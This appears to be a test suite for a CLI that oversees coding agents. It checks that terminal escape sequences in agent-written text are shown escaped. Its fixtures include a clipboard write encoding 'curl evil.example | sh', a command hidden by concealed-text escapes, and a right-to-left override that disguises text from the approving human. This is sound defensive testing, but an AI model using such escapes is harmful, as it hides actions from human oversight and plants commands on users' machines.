import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import { runCli } from "../../../src/cli/run-cli.js";
import { claudeDaemonEnv, prepareClaudeHome, type ClaudeHome } from "../../support/claude-home.js";
import { startDaemon, type DaemonProcess } from "../../support/daemon-process.js";
import { rest } from "../../support/rest-client.js";
import { startScriptedModelServer, type ModelTurn, type ScriptedModelServer } from "../../support/scripted-model-server.js";
import { waitFor } from "../../support/wait-for.js";
import { memoryIo } from "../support/memory-io.js";
import { runCliProcess } from "../support/run-cli-process.js";
import { spawnCli } from "../support/spawn-cli.js";

// An agent that writes escape sequences: the real Claude Code CLI (scripted model server) asks to write a
// file whose name holds an OSC 52 clipboard write (so the approval's title does) and whose content hides
// a command behind concealed text (`\e[8m`), then ends its turn with a screen clear, a C1 CSI and a
// right-to-left override. (Claude Code itself refuses a Bash command with control characters.) Whatever
// the CLI prints of that (tables, details, watch lines, the interactive prompt, --json) must carry no
// control character except the CLI's own colours. Stored text from the API (a project's name, a pause
// reason) is printed the same way.

const HIDDEN_CONTENT = "touch marker.txt\u001b[8m; echo pwned > hidden.txt\u001b[28m";
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const RESULT = "All done\u001b[2J\u001b[H \u009b31m red \u202eevil\u202c \u200bzero-width \u001b[32mlooks like our green\u001b[39m";
const PROJECT_NAME = "api\u001b]0;pwned\u0007";
const PAUSE_REASON = "paused\u001b[1A\u001b[2K by someone";

// Written out independently of the CLI's code: C0 (but tab and newline), DEL, C1, and the format
// characters that reorder or hide text.
const DANGEROUS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
const OWN_STYLES = /\u001b\[(?:1|2|22|3[1-6]|39)m/g;

function rawControls(printed: string): string[] {
  return Array.from(printed.replace(OWN_STYLES, ""))
    .filter((char) => DANGEROUS.test(char))
    .map((char) => `U+${char.codePointAt(0)!.toString(16)}`);
}

let projectDir: string;

function script(turn: ModelTurn) {
  if (turn.toolResults.length > 0) return { text: RESULT };
  if (turn.text.includes("run the tests")) {
    return { toolUse: { name: "Write", input: { file_path: join(projectDir, `notes${CLIPBOARD}.txt`), content: HIDDEN_CONTENT } } };
  }
  return { text: "Hello." };
}

describe("commander prints agent-written text safely (real daemon, real Claude Code CLI)", function () {
  this.timeout(120_000);
  let model: ScriptedModelServer;
  let claudeHome: ClaudeHome;
  let daemon: DaemonProcess;
  let workDir: string;
  let projectId: string;
  let workId: string;
  let eventId: string;

  // In process, as the CLI's own tests run it, except where a test says otherwise: a process costs seconds.
  async function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
    const io = memoryIo(env);
    const code = await runCli(["--url", daemon.url, ...args], io);
    return { code, stdout: io.stdoutText(), stderr: io.stderrText() };
  }

  before(async function () {
    workDir = await mkdtemp(join(tmpdir(), "commander-hostile-text-"));
    projectDir = await mkdtemp(join(workDir, "project-"));
    model = await startScriptedModelServer({ script });
    claudeHome = await prepareClaudeHome({ baseUrl: model.url, trustedDirs: [projectDir] });
    daemon = await startDaemon({
      env: claudeDaemonEnv(claudeHome),
    });
    const project = await rest(daemon.url, "POST", "/api/projects", { path: projectDir, name: PROJECT_NAME });
    expect(project.status, project.text).to.equal(201);
    projectId = project.body.id;
    const work = await rest(daemon.url, "POST", "/api/work", { project_id: projectId, content: "please run the tests" });
    expect(work.status, work.text).to.equal(201);
    workId = work.body.id;
    const event = await waitFor(
      async () => ((await rest(daemon.url, "GET", `/api/events/pending?project_id=${projectId}`)).body.events as any[]).find((e) => e.type === "approval"),
      { timeoutMs: 60_000, what: "the approval of the hidden command" },
    ).catch(async (err: unknown) => {
      const work = (await rest(daemon.url, "GET", "/api/work")).text;
      const events = (await rest(daemon.url, "GET", "/api/events")).text;
      const turns = JSON.stringify(model.turns().map((t) => [t.toolResults, t.request.reply]));
      throw new Error(`${(err as Error).message}\n${work}\n${events}\n${turns}\n${daemon.output().slice(-3000)}`);
    });
    eventId = event.id;
    expect(event.title, "the daemon stores what the agent sent").to.include(CLIPBOARD);
    expect(event.context.tool_input.content).to.equal(HIDDEN_CONTENT);
  });

  after(async () => {
    await daemon?.stop();
    await daemon?.cleanup();
    await model?.close();
    await claudeHome?.cleanup();
    if (workDir) await rm(workDir, { recursive: true, force: true });
  });

  it("shows the pending approval's escapes in `events list` and `events show`, with and without colours", async () => {
    const real = await runCliProcess(["--url", daemon.url, "events", "list"], { env: { FORCE_COLOR: "1" } });
    expect(real.code, real.stderr).to.equal(0);
    expect(rawControls(real.stdout), "bin/commander.js events list").to.deep.equal([]);
    expect(real.stdout).to.include("\\x1b]52;c;");
    for (const env of [{}, { FORCE_COLOR: "1" }] as Array<Record<string, string>>) {
      for (const args of [["events", "list"], ["events", "list", "--all"], ["events", "show", eventId]]) {
        const result = await cli(args, env);
        expect(result.code, result.stderr).to.equal(0);
        expect(rawControls(result.stdout), `commander ${args.join(" ")} ${JSON.stringify(env)}`).to.deep.equal([]);
        expect(result.stdout).to.include("notes\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.txt");
      }
    }
    const details = (await cli(["events", "show", eventId])).stdout;
    expect(details).to.include("touch marker.txt\\u001b[8m; echo pwned > hidden.txt\\u001b[28m");
  });

  it("shows the event in the interactive resolve prompt safely, and resolves it with the daemon's option", async () => {
    const io = memoryIo({ FORCE_COLOR: "1" });
    Object.assign(io.stdin, { isTTY: true });
    Object.assign(io.stdout, { isTTY: true, columns: 120 });
    const done = runCli(["--url", daemon.url, "events", "resolve", eventId], io);
    await waitFor(() => io.stdoutText().includes("Choose"), { timeoutMs: 30_000, what: "the prompt" });
    // Answered by the option's name: the approval may also offer "allow always" (Claude's suggestions).
    io.stdin.write("deny\n");
    expect(await done, io.stderrText()).to.equal(0);
    // readline's own cursor moves and line ends are not stored text.
    const printed = io.stdoutText().replace(/\u001b\[\d*[GJ]/g, "").replace(/\r\n/g, "\n");
    expect(rawControls(printed)).to.deep.equal([]);
    expect(printed).to.include("echo pwned > hidden.txt").and.include("\\x1b]52;c;");
    expect((await rest(daemon.url, "GET", `/api/events/${eventId}`)).body.resolution).to.equal("deny");
  });

  it("shows the agent's result with its escapes visible in `work list` and `work show`", async () => {
    await waitFor(async () => (await rest(daemon.url, "GET", `/api/work/${workId}`)).body.state === "completed", {
      timeoutMs: 60_000,
      what: "the work item to complete",
    });
    expect((await rest(daemon.url, "GET", `/api/work/${workId}`)).body.result).to.equal(RESULT);
    await rest(daemon.url, "POST", `/api/projects/${projectId}/pause`, { reason: PAUSE_REASON });
    for (const env of [{}, { FORCE_COLOR: "1" }] as Array<Record<string, string>>) {
      for (const args of [["work", "list"], ["work", "show", workId], ["projects", "list"], ["projects", "show", projectId], ["sessions", "status"]]) {
        const result = await cli(args, env);
        expect(result.code, result.stderr).to.equal(0);
        expect(rawControls(result.stdout), `commander ${args.join(" ")} ${JSON.stringify(env)}`).to.deep.equal([]);
      }
    }
    const shown = (await cli(["work", "show", workId])).stdout;
    expect(shown).to.include("All done\\x1b[2J\\x1b[H \\x9b31m red \\u202eevil\\u202c \\u200bzero-width");
    // With colours on, the agent's own colour codes are shown too, not taken for the CLI's.
    const coloured = (await cli(["work", "show", workId], { FORCE_COLOR: "1" })).stdout;
    expect(coloured).to.include("\\x1b[32mlooks like our green\\x1b[39m").and.not.include("\u001b[32mlooks");
    expect((await cli(["projects", "show", projectId])).stdout).to.include("api\\x1b]0;pwned\\x07").and.include("paused\\x1b[1A\\x1b[2K by someone");
  });

  it("keeps --json exact and escaped: it parses back to the stored text and carries no raw control", async () => {
    for (const args of [["work", "show", workId], ["events", "show", eventId], ["projects", "list"]]) {
      const result = await cli([...args, "--json"]);
      expect(result.code, result.stderr).to.equal(0);
      expect(rawControls(result.stdout), `commander ${args.join(" ")} --json`).to.deep.equal([]);
    }
    expect(JSON.parse((await cli(["work", "show", workId, "--json"])).stdout).result).to.equal(RESULT);
    const event = JSON.parse((await cli(["events", "show", eventId, "--json"])).stdout);
    expect(event.title).to.include(CLIPBOARD);
    expect(event.context.tool_input.content).to.equal(HIDDEN_CONTENT);
  });

  it("prints `watch` lines (and --json lines) without raw controls", async () => {
    for (const [args, env] of [[[], { FORCE_COLOR: "1" }], [["--json"], {}]] as const) {
      const watcher = spawnCli(["--url", daemon.url, "watch", "--after-seq", "1", ...args], env);
      try {
        // The last change so far is the pause; once it is printed, every earlier one is too.
        await watcher.waitForLine(/paused/, 30_000);
      } finally {
        await watcher.stop();
      }
      expect(rawControls(watcher.stdout()), `watch ${args.join(" ")}`).to.deep.equal([]);
      expect(watcher.stdout()).to.match(/\\x1b\]52;c;|\\u001b\]52;c;/);
    }
  });
});
